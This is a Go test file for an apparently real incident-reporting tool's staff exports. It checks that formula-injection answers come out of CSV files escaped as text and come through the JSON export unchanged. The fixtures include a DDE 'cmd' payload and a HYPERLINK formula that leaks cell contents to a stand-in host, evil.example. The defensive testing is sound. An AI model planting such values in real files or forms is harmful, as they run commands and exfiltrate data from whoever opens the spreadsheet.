package main

import (
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-hrd/vigil/flows"
	"github.com/vigil-hrd/vigil/internal/testenv"
	"github.com/vigil-hrd/vigil/triage"
)

// staffRun runs vigil with vars and fails the test unless it exits 0.
func staffRun(t *testing.T, vars map[string]string, args ...string) string {
	t.Helper()
	out, stderr, code := vigil(t, vars, "", args...)
	if code != 0 {
		t.Fatalf("vigil %q: exit %d\n%s%s", args, code, out, stderr)
	}
	return out
}

// TestCSVKeepsFormulasText: a defender's answer that a spreadsheet would
// read as a formula reaches every CSV the staff tools write as text (a
// single quote before it), and the JSON export keeps it exact.
func TestCSVKeepsFormulasText(t *testing.T) {
	env := testenv.New(t)
	hostile := map[string]string{
		"when_detail":    "+1+1",
		"place":          "=cmd|' /C calc'!A0",
		"description":    `=HYPERLINK("https://evil.example/?"&A2,"details")`,
		"contact_detail": "@SUM(A1:A9)",
		"country":        "=HYPERLINK(1)",
		"affected":       "-2+3",
	}
	answers := map[string]any{"what": []any{"raid"}, "contact": "yes"}
	for k, v := range hostile {
		answers[k] = v
	}
	env.Seed(t, flows.Report{Schema: flows.ReportSchema, Ref: "EEEE-0001", ReceivedAt: time.Now(), Language: "en", Answers: answers})
	vars := staffVars(env, "ana")

	csvFile := filepath.Join(t.TempDir(), "cases.csv")
	staffRun(t, vars, "triage", "export", "--format", "csv", "-o", csvFile)
	data, err := os.ReadFile(csvFile)
	if err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, string(data))
	if len(rows) != 2 {
		t.Fatalf("export has %d rows, want the header and one case:\n%s", len(rows), data)
	}
	got := map[string]string{}
	for i, name := range rows[0] {
		got[name] = rows[1][i]
	}
	for column, answer := range map[string]string{"event_date_text": "when_detail", "local_geographical_area": "place",
		"event_description": "description", "contact_detail": "contact_detail", "geographical_term": "country", "victim_type": "affected"} {
		if want := "'" + hostile[answer]; got[column] != want {
			t.Errorf("export column %s = %q, want %q", column, got[column], want)
		}
	}

	statsCSV := readCSV(t, staffRun(t, vars, "triage", "stats", "--by", "country", "--csv"))
	if len(statsCSV) != 2 || statsCSV[1][0] != "'=HYPERLINK(1)" {
		t.Errorf("stats --csv: %q", statsCSV)
	}
	noFormula(t, "stats --csv", statsCSV)
	noFormula(t, "export", rows)

	jsonFile := filepath.Join(t.TempDir(), "cases.json")
	staffRun(t, vars, "triage", "export", "--format", "json", "-o", jsonFile)
	data, _ = os.ReadFile(jsonFile)
	var recs []triage.Record
	if err := json.Unmarshal(data, &recs); err != nil || len(recs) != 1 {
		t.Fatalf("json export: %v\n%s", err, data)
	}
	if recs[0].LocalGeographicalArea != hostile["place"] || recs[0].Description != hostile["description"] {
		t.Errorf("the JSON export changed the answers: %+v", recs[0])
	}
}

func readCSV(t *testing.T, s string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(s)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, s)
	}
	return rows
}

// noFormula fails if a cell of rows starts as a formula would.
func noFormula(t *testing.T, what string, rows [][]string) {
	t.Helper()
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: cell %q would be read as a formula", what, cell)
			}
		}
	}
}
